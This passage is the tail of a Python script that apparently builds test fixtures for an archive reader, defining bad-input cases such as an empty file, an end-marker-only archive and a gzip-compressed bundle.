    raw("archive-empty-file", b"", 2, "-", "an empty file (0 bytes)", cls="bad-input")
    raw("archive-end-marker-only", b"\0" * 1024, 2, "-", "an archive with no entry, only the end marker", cls="bad-input")
    raw("archive-gzip", gzip.compress(genuine, mtime=0), 2, "-", "the genuine bundle gzip-compressed: not an uncompressed ustar archive",
        cls="bad-input")

if __name__ == "__main__":
    main(sys.argv[1])
